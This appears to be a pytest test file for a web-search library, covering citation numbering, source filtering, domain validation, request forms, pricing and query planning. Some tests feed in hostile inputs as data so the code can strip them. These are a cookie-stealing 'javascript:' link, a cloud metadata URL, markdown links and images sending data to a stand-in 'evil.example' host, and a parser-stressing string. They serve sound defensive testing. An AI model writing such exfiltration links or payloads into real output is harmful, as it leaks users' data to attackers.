"""The search core without a server: citations, request forms, query planning, pricing."""

from __future__ import annotations

import pytest

from gatewise.config import load_settings
from gatewise.errors import ErrorCode, GatewiseError
from gatewise.search.citations import (
    Citation,
    from_annotations,
    keep_to_sources,
    link_target,
    normalise_refs,
    normalise_url,
    sources_markdown,
    uncited_sentences,
    with_refs,
    within_domains,
)
from gatewise.search.forms import (
    SearchOptions,
    clean_domains,
    is_server_tool_rejection,
    search_body,
    to_plugin_form,
    uses_server_tool,
)
from gatewise.search.plan import plan_queries
from gatewise.search.pricing import resolve_engine, search_fee


def note(url: str, answer: str = "", link: str | None = None, **extra) -> dict:
    cite = {"url": url, "title": extra.pop("title", None), "content": extra.pop("content", None)}
    if link is not None:
        start = answer.index(link)
        cite.update(start_index=start, end_index=start + len(link))
    return {"type": "url_citation", "url_citation": {**cite, **extra}}


def test_citations_are_numbered_by_first_use_and_deduplicated() -> None:
    answer = "Alpha is true [a.org](https://a.org/x). Beta too [b.org](https://b.org/y)."
    notes = [note("https://b.org/y", answer, "[b.org](https://b.org/y)", title="B", content="bee " * 200),
             note("https://a.org/x", answer, "[a.org](https://a.org/x)", title="A"),
             note("https://A.org/x/?utm_source=feed#top", title="A again", content="more"),
             note("https://c.org/z", title="Unanchored"),
             {"type": "file_citation", "file_citation": {"file_id": "f"}},
             note("https://d.org", start_index=5, end_index=999)]
    cites, unusable = from_annotations(answer, notes)
    assert unusable == 0
    assert [(c.number, c.url) for c in cites] == [
        (1, "https://a.org/x"), (2, "https://b.org/y"), (3, "https://c.org/z"), (4, "https://d.org")]
    first = cites[0]
    assert answer[first.spans[0].start:first.spans[0].end] == "[a.org](https://a.org/x)"
    assert first.position == answer.index("[a.org]") and first.snippet == "more"  # filled from the duplicate
    assert cites[1].snippet is not None and len(cites[1].snippet) <= 402 and cites[1].snippet.endswith("…")
    assert cites[2].position is None and cites[3].spans == []  # out-of-range span dropped, source kept


def test_markdown_refs_match_the_numbers() -> None:
    answer = "Alpha is true [a.org](https://a.org/x). Beta holds as well."
    cites, _ = from_annotations(answer, [
        note("https://a.org/x", answer, "[a.org](https://a.org/x)", title="A [draft]"),
        note("https://b.org/y", answer, "Beta holds", title="B")])
    text = with_refs(answer, cites)
    assert text == "Alpha is true [[1]](https://a.org/x). Beta holds [2] as well."
    assert sources_markdown(cites).splitlines() == [
        "**Sources**", "1. [A (draft)](https://a.org/x)", "2. [B](https://b.org/y)"]


def test_a_link_target_has_nothing_that_could_end_it_early() -> None:
    assert link_target("https://a.org/p?q=1&r=é#top") == "https://a.org/p?q=1&r=é#top"
    assert link_target("https://a.org/(x) [y] <z> \"q\" 'q' `c` \\ \t\n\u3000end") == (
        "https://a.org/%28x%29%20%5By%5D%20%3Cz%3E%20%22q%22%20%27q%27%20%60c%60%20%5C%20%09%0A%E3%80%80end")


def test_sources_without_spans_are_anchored_at_their_links() -> None:
    answer = "See [the docs](https://a.org/x) and [again](https://A.org/x/?utm_source=feed)."
    (cite,), _ = from_annotations(answer, [note("https://a.org/x", title="A")])
    assert [answer[s.start:s.end] for s in cite.spans] == [
        "[the docs](https://a.org/x)", "[again](https://A.org/x/?utm_source=feed)"]
    assert with_refs(answer, [cite]) == "See [[1]](https://a.org/x) and [[1]](https://a.org/x)."


def test_sources_outside_the_domain_filter_are_dropped_and_the_rest_renumbered() -> None:
    answer = "One [a](https://blog.a.org/1). Two [b](https://b.org/2). Three [c](https://a.org/3)."
    cites, _ = from_annotations(answer, [note(u) for u in ("https://blog.a.org/1", "https://b.org/2",
                                                           "https://a.org/3")])
    kept, dropped = within_domains(cites, ["a.org"], ["*.a.org"])
    assert [(c.number, c.url) for c in kept] == [(1, "https://a.org/3")]
    assert [c.url for c in dropped] == ["https://blog.a.org/1", "https://b.org/2"]
    assert within_domains(cites, [], [])[0] == cites


def test_grouped_references_are_split() -> None:
    assert normalise_refs("A [1, 3]. B [2-4]. C [1,2-3]. Year [2026].") == (
        "A [1][3]. B [2][3][4]. C [1][2][3]. Year [2026].")


def test_reference_checks() -> None:
    sources = [Citation(number=n, url=f"https://s{n}.org/") for n in (1, 2)]
    kept = keep_to_sources("One [1]. Two [4]. Zero [0].", sources)
    assert (kept.text, kept.unknown_refs) == ("One [1]. Two. Zero.", [4, 0])
    text = "Python 3.14 adds free threading. [1] Rates rose 3.5 percent this year [2]. Nobody cites this one."
    assert uncited_sentences(text) == ["Nobody cites this one."]
    assert normalise_url("HTTPS://Example.com/a/?b=1&utm_medium=x#frag") == "https://example.com/a?b=1"


def test_plugin_form_carries_every_setting() -> None:
    options = SearchOptions(max_results=7, engine="exa", context_size="high",
                            include_domains=("python.org",), exclude_domains=("*.spam.com",))
    body = search_body("openai/gpt-5-mini", "q", options, max_tokens=100)
    function = {"type": "function", "function": {"name": "f"}}
    body["tools"].append(function)
    assert uses_server_tool(body)
    plugin = to_plugin_form(body)
    assert not uses_server_tool(plugin) and plugin["tools"] == [function]
    assert plugin["plugins"] == [{"id": "web", "engine": "exa", "max_results": 7, "max_uses": 3,
                                  "include_domains": ["python.org"], "exclude_domains": ["*.spam.com"]}]
    assert plugin["web_search_options"] == {"search_context_size": "high"}
    auto = to_plugin_form(search_body("m", "q", SearchOptions(), max_tokens=10))
    assert auto["plugins"] == [{"id": "web", "max_results": 5, "max_uses": 3}] and "tools" not in auto


def test_freshness_is_a_dated_system_hint() -> None:
    from datetime import UTC, datetime

    body = search_body("m", "q", SearchOptions(freshness="week"), max_tokens=10,
                       now=datetime(2026, 11, 29, tzinfo=UTC))
    assert body["messages"][0] == {"role": "system", "content": (
        "Today is 2026-11-29. Prefer sources published within the past week; if the results are "
        "older than that, say so.")}
    assert body["messages"][-1] == {"role": "user", "content": "q"}


def test_domains_are_checked_and_cut_to_hosts() -> None:
    assert clean_domains([" Python.org ", "https://docs.python.org/3/", "*.python.org", "python.org"],
                         "include_domains") == ("python.org", "docs.python.org", "*.python.org")
    for bad in ("not a domain", "localhost", "*.", "exa mple.com"):
        with pytest.raises(GatewiseError) as caught:
            clean_domains([bad], "exclude_domains")
        assert caught.value.code is ErrorCode.INVALID_INPUT and "exclude_domains" in caught.value.message


def test_only_tool_refusals_count_as_rejections() -> None:
    def error(status: int, message: str) -> GatewiseError:
        return GatewiseError(ErrorCode.INVALID_INPUT, message, status=status)

    assert is_server_tool_rejection(error(404, "No endpoints found that support tool use."))
    assert is_server_tool_rejection(error(400, "openrouter:web_search is not enabled for this account"))
    assert not is_server_tool_rejection(error(429, "tool rate limit"))
    assert not is_server_tool_rejection(error(400, "messages: required"))
    assert not is_server_tool_rejection(error(401, "User not found."))


def test_pricing_follows_the_engine() -> None:
    assert resolve_engine("anthropic/claude-haiku-4.5", "auto") == "native"
    assert resolve_engine("openai/gpt-4o-mini", "native") == "exa"  # no native search: Exa
    assert resolve_engine("google/gemini-2.5-flash", None) == "exa"
    assert search_fee("perplexity/sonar", "native", results=5, context_size="high") == 0.012
    assert search_fee("google/gemini-2.5-flash", "auto", results=5) == 0.007
    assert search_fee("anthropic/claude-haiku-4.5", "exa", results=13) == pytest.approx(0.010)
    assert search_fee("openai/gpt-5-mini", "exa", results=3, mode="deep") == 0.012


def test_planning_splits_lists_comparisons_and_questions() -> None:
    assert plan_queries("What is new in Python 3.14, Rust 1.90 and Go 1.25?", 6) == [
        "What is new in Python 3.14, Rust 1.90 and Go 1.25?", "What is new in Python 3.14",
        "What is new in Rust 1.90", "What is new in Go 1.25"]
    assert plan_queries("Compare LFP and NMC battery chemistry", 6) == [
        "Compare LFP and NMC battery chemistry", "LFP battery chemistry", "NMC battery chemistry"]
    assert plan_queries("What is HTTP/3?  How does QUIC recover lost packets?", 2) == [
        "What is HTTP/3? How does QUIC recover lost packets?", "What is HTTP/3?"]
    assert plan_queries("jwst", 4) == ["jwst"]
    assert plan_queries("  ", 4) == []
    assert plan_queries("latest JWST results", 4) == ["latest JWST results"]


def test_search_settings_from_the_environment() -> None:
    settings = load_settings({"GATEWISE_SEARCH_MODEL": "claude-haiku-4.5"})
    assert settings.search.default_model == "claude-haiku-4.5" and settings.search.max_results == 5


def test_only_public_http_links_become_sources_and_titles_are_cut() -> None:
    notes = [note("javascript:alert(document.cookie)", title="js"), note("http://169.254.169.254/latest"),
             note("https://long.example/" + "a" * 5000), note("ftp://files.example/x"),
             {"type": "url_citation", "url_citation": {"url": 42}},
             note("https://ok.example/page", title="T " * 5000, content="fine")]
    (cite,), unusable = from_annotations("An answer.", notes)
    assert unusable == 5 and cite.url == "https://ok.example/page" and cite.snippet == "fine"
    assert cite.title is not None and len(cite.title) <= 202 and cite.title.endswith("…")


def test_made_up_links_images_and_refs_are_kept_to_the_sources() -> None:
    sources = [Citation(number=1, url="https://a.org/x"), Citation(number=2, url="https://b.org/y")]
    text = ("Fact [[1]](https://a.org/x) and [the docs](https://A.org/x/?utm_source=z). "
            "[evil](https://evil.example/steal?d=) [[9]](https://invented.example/x) "
            "![](https://evil.example/?d=secret) <img src=\"https://evil.example/p.png\"> "
            "<a href=\"https://evil.example/\">click</a> [wiki](https://w.org/a_(b)) [2] [7]\n"
            "[ref]: https://evil.example/def\n[1]: https://a.org/x")
    kept = keep_to_sources(text, sources)
    assert kept.text == ("Fact [[1]](https://a.org/x) and [the docs](https://A.org/x/?utm_source=z). "
                         "evil   click</a> wiki [2]\n\n[1]: https://a.org/x")
    assert (kept.unknown_refs, kept.links, kept.images) == ([9, 7], 5, 2)
    assert kept.warnings("the markdown answer") == [
        "removed references to sources that do not exist: [7, 9]",
        "removed 5 link(s) to pages that are not among the sources (their text stays) and 2 image(s) "
        "the model wrote into the markdown answer"]
    assert keep_to_sources("Plain text [1].", sources).warnings() == []


def test_a_hostile_answer_is_kept_to_its_sources_in_linear_time() -> None:
    import time

    hostile = ("[a" * 20_000 + "<a href=" * 20_000 + "<img " * 20_000 + "](" * 20_000) * 2
    started = time.perf_counter()
    keep_to_sources(hostile, [])
    assert time.perf_counter() - started < 2


def test_international_domains_are_taken_in_their_ascii_form() -> None:
    assert clean_domains(["bücher.de", "*.Bücher.de", "https://пример.рф/x"], "include_domains") == (
        "xn--bcher-kva.de", "*.xn--bcher-kva.de", "xn--e1afmkfd.xn--p1ai")
    cites = [Citation(number=1, url="https://bücher.de/a"), Citation(number=2, url="https://other.de/")]
    kept, dropped = within_domains(cites, ["xn--bcher-kva.de"], [])
    assert [c.url for c in kept] == ["https://bücher.de/a"] and [c.url for c in dropped] == ["https://other.de/"]
